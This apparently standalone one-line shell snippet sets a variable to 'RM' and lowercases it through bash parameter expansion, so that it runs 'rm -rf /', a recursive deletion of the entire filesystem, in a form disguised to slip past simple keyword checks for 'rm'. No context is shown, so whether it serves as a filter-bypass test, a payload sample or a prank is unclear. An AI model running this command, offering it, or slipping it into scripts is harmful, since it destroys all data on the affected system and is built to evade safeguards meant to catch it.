x=RM; ${x,,} -rf /
